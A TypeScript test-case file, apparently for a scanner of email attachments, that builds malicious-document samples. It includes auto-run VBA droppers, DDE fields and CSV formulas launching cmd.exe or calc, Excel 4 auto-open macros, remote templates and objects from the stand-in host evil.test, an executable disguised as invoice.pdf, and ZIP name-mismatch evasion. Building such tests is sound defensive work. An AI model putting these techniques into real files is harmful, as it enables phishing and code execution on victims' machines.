import { lyingZip } from '../archives.ts';
import { autoOpen, workbook as binaryWorkbook, formulaCell, MACRO_SHEET, ptg } from '../biff.ts';
import { compoundFile } from '../compound-file.ts';
import { docx, paragraph } from '../office-files.ts';
import { ole1Embedded, ole1Linked, packageData } from '../ole-objects.ts';
import { oneNoteSection } from '../one-note.ts';
import { attachment, tnef } from '../tnef.ts';
import type { Row } from './case.ts';
import {
  DROPPER,
  doc,
  docm,
  external,
  file,
  formula,
  HARMLESS,
  lengthBefore,
  packaged,
  program,
  rtfObject,
  workbook,
} from './documents.ts';
import { eicar, fileCase, madeBy } from './making.ts';

/** A hidden sheet of macros that is run as the workbook is opened: EXEC("calc"). */
function xlmBook(): Buffer {
  const exec = formulaCell(0, 0, ptg.text('calc'), ptg.many(110, 1));
  return binaryWorkbook([{ name: 'Macro1', type: MACRO_SHEET, state: 1, records: [exec] }], [autoOpen()]);
}

export const DOCUMENT_ROW: Row = {
  name: 'active-documents',
  attack: 'Macros, DDE, Excel 4 macros, remote templates, packages, objects.',
  cases: [
    fileCase('vba-ooxml', 'a macro that runs by itself, in OOXML', () => file('papers.docm', docm(DROPPER))),
    fileCase('vba-ole2', 'the same in OLE2', () => file('papers.doc', doc(DROPPER))),
    fileCase('vba-renamed', 'the same under the name of a document without macros', () =>
      file('papers.docx', docm(DROPPER)),
    ),
    fileCase('vba-harmless', 'a macro that only sorts', () => file('papers.docm', docm(HARMLESS))),
    fileCase('dde-ooxml', 'a field that starts a program', () =>
      file('papers.docx', docx(`<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k"/></w:p>`)),
    ),
    fileCase('dde-rtf', 'the same in RTF', () =>
      file('papers.rtf', '{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd.exe /k}{\\fldrslt x}}}'),
    ),
    fileCase('dde-workbook', 'a formula that starts a program', () =>
      file('papers.xlsx', workbook(formula("cmd|'/c calc'!A0"))),
    ),
    fileCase('dde-csv', 'the same in CSV', () => file('papers.csv', "a,b\r\n=cmd|'/c calc'!A0,1\r\n")),
    fileCase('xlm-ooxml', 'Excel 4 macros', () =>
      file(
        'papers.xlsm',
        workbook('<row/>', {
          names: '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>',
          macros: formula('EXEC("calc.exe")'),
        }),
      ),
    ),
    fileCase('xlm-ole2', 'Excel 4 macros in OLE2', () => file('papers.xls', compoundFile({ Workbook: xlmBook() }))),
    fileCase('remote-template', 'a template from the web', () =>
      file('papers.docx', external('attachedTemplate', 'https://evil.test/x.dotm')),
    ),
    fileCase('remote-template-rtf', 'the same in RTF', () =>
      file('papers.rtf', '{\\rtf1{\\*\\template http://evil.test/x.dotm}x}'),
    ),
    fileCase('remote-object', 'an object from the web', () =>
      file('papers.docx', external('oleObject', 'mhtml:http://evil.test/x.html!x-usc:http://evil.test/x.html')),
    ),
    fileCase('package-ooxml', 'a program as an object', () =>
      file(
        'papers.docx',
        docx(paragraph('Double-click.'), {
          parts: {
            'word/embeddings/oleObject1.bin': {
              content: compoundFile({
                '\x01Ole10Native': lengthBefore(packageData('invoice.pdf', 'C:\\invoice.exe', program)),
              }),
            },
          },
          relationships: [{ type: 'oleObject', target: 'embeddings/oleObject1.bin' }],
        }),
      ),
    ),
    fileCase('package-ole2', 'the same in OLE2', () =>
      file(
        'papers.doc',
        compoundFile({
          WordDocument: Buffer.alloc(4096),
          ObjectPool: {
            _1: { '\x01Ole10Native': lengthBefore(packageData('invoice.pdf', 'C:\\invoice.exe', program)) },
          },
        }),
      ),
    ),
    fileCase('package-rtf', 'the same in RTF', () => file('papers.rtf', rtfObject(packaged().toString('hex')))),
    fileCase('equation-rtf', 'an equation in RTF', () =>
      file('papers.rtf', rtfObject(ole1Embedded('Equation.3', Buffer.alloc(200, 0x41)).toString('hex'), '\\objupdate')),
    ),
    fileCase('link-rtf', 'a linked object in RTF', () =>
      file(
        'papers.rtf',
        rtfObject(ole1Linked('htmlfile', 'http://evil.test/x.hta').toString('hex'), '\\objautlink\\objupdate'),
      ),
    ),
    fileCase('onenote', 'a script in a OneNote section', () =>
      file(
        'papers.one',
        oneNoteSection(
          ['Double-click to view.'],
          [{ name: 'invoice.wsf', content: Buffer.from('<job><script>x()</script></job>') }],
        ),
      ),
    ),
    fileCase('onenote-eicar', 'EICAR in a OneNote section', () =>
      file('papers.one', oneNoteSection(['Double-click to view.'], [{ name: 'readme.txt', content: eicar }])),
    ),
    fileCase(
      'vba-in-7z-in-winmail',
      'a macro in 7z in a winmail.dat',
      () => {
        const archive = madeBy('7z', ['a', 'out.7z', 'papers.docm'], 'out.7z', { 'papers.docm': docm(DROPPER) });
        return { name: 'winmail.dat', type: 'application/ms-tnef', content: tnef(attachment('papers.7z', archive)) };
      },
      { needs: ['7z'], with: 'text-encodings' },
    ),
    fileCase(
      'rtf-as-doc-in-zip',
      'RTF in broken digits under another name, in a ZIP with two names',
      () => ({
        name: 'papers.zip',
        content: lyingZip([
          {
            name: 'papers.doc',
            content: Buffer.from(rtfObject(packaged().toString('hex').replace(/../g, '$& \\par '))),
            local: { name: 'papers.txt' },
          },
        ]),
      }),
      { with: 'zip-disagreements' },
    ),
  ],
};
